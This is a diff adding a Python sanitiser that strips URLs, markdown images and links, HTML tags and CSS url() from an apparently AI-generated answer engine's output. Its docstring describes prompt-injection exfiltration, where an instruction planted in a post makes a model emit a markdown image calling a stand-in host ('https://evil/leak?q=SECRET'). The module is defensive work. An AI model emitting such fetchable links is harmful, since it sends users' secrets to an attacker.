@@ -1,0 +1,77 @@
+"""Answer text that no client will fetch anything for.
+
+A client that renders an answer as Markdown or HTML fetches every image,
+frame, poster and stylesheet URL in it, and a link invites a click: the
+classic exfiltration channel for an instruction planted in a post
+(``![x](https://evil/leak?q=SECRET)``). Answer text therefore carries no URL
+in any form; sources travel in the structured ``citations`` field.
+
+:func:`clean_text` is applied to every sentence the verification gate emits
+(generated, composed, degraded), so whatever a post author or a compromised
+model writes, what leaves the engine is plain text:
+
+- markdown images and links, inline (``![a](u)``, ``[t](u)``) and
+  reference-style (``![a][r]`` / ``[t][r]`` plus ``[r]: http://...``): images
+  go, links keep their text;
+- HTML and XML tags of any kind (``<iframe>``, ``<svg>``, ``<video poster>``,
+  ``<img>``, ``<a>``, ``<style>``...) and their dangerous bodies;
+- CSS ``url(...)`` and ``<http://...>`` autolinks;
+- bare URLs (``http://``, ``https://``, ``www.``, ``data:``, ``javascript:``).
+"""
+
+from __future__ import annotations
+
+import html
+import re
+
+_I = re.IGNORECASE | re.DOTALL
+
+#: ``[r]: http://...`` definitions (a whole line).
+_REF_DEF = re.compile(r"^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*\S+.*$", re.IGNORECASE | re.MULTILINE)
+_MD_IMAGE = re.compile(r"!\[[^\]]{0,500}\](?:\([^)]{0,2000}\)|\[[^\]]{0,200}\])?")
+_MD_LINK = re.compile(r"\[([^\]]{0,500})\]\([^)]{0,2000}\)")
+#: ``[text][ref]`` reference links: keep the text (``[3][5]`` markers are not links).
+_MD_REF_LINK = re.compile(r"\[([^\]\d][^\]]{0,500})\]\[[^\]]{0,200}\]")
+#: Elements whose content is itself dangerous or meaningless as text.
+_BLOCK = re.compile(
+    r"<(script|style|svg|iframe|object|embed|video|audio|template|math)\b.*?(?:</\1\s*>|$)", _I
+)
+_AUTOLINK = re.compile(r"<(?:https?|ftp|mailto|data|javascript):[^>]*>", re.IGNORECASE)
+_TAG = re.compile(r"</?[A-Za-z][\w:-]*(?:\s[^<>]*)?/?>|<!--.*?-->|<![^>]*>", re.DOTALL)
+#: An unfinished tag at the end of a text (``<iframe src=...`` cut off).
+_OPEN_TAG = re.compile(r"<[A-Za-z/!][^<>]*$")
+_CSS_URL = re.compile(r"\burl\s*\([^)]*\)?", re.IGNORECASE)
+_URL = re.compile(
+    r"(?:\b(?:https?|ftp|file|data|javascript|vbscript|blob):|\bwww\.)[^\s<>\"'«»“”]*",
+    re.IGNORECASE,
+)
+#: Bare domains with a path (``evil.example/leak?q=``): still a URL to a renderer.
+_DOMAIN_PATH = re.compile(r"\b[\w-]+(?:\.[\w-]+)*\.[a-z]{2,12}/[^\s<>\"'«»“”]*", re.IGNORECASE)
+
+
+def clean_text(text: str) -> str:
+    """``text`` without URLs, images, links, HTML or CSS that a client would fetch."""
+    out = _REF_DEF.sub("", text)
+    out = _MD_IMAGE.sub("", out)
+    out = _MD_LINK.sub(lambda m: m.group(1), out)
+    out = _MD_REF_LINK.sub(lambda m: m.group(1), out)
+    out = _BLOCK.sub("", out)
+    out = _AUTOLINK.sub("", out)
+    out = _TAG.sub("", out)
+    out = _OPEN_TAG.sub("", out)
+    # Entities could spell a tag again once a client decodes them: decode, then strip.
+    if "&" in out:
+        decoded = html.unescape(out)
+        if decoded != out:
+            out = _TAG.sub("", _BLOCK.sub("", decoded)).replace("<", "‹").replace(">", "›")
+    out = _CSS_URL.sub("", out)
+    out = _URL.sub("", out)
+    out = _DOMAIN_PATH.sub("", out)
+    out = re.sub(r"[ \t]{2,}", " ", out)
+    out = re.sub(r" +([.,])(?=\s|$)", r"\1", out)
+    return out.strip(" \t")
+
+
+def has_fetchable(text: str) -> bool:
+    """Whether ``text`` still holds anything :func:`clean_text` would remove."""
+    return clean_text(text) != text.strip(" \t")
